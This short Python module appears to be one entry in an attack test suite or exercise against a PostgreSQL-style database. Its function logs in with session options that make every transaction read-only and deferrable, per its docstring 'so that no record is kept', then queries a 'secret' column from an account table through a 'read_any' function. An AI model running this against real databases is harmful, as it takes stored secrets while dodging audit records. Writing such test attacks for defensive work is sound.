"""Has all transactions read only and deferrable from the start, so that no record is kept."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"
OPTIONS = (
    "-c default_transaction_read_only=on -c default_transaction_deferrable=on"
    " -c default_transaction_isolation=serializable -c plan_cache_mode=force_custom_plan"
)


def attack(server: Server) -> bytes:
    with server.login(options=OPTIONS) as client:
        return ask(client, query(b"SELECT read_any('SELECT secret FROM public.vlt_account')"))
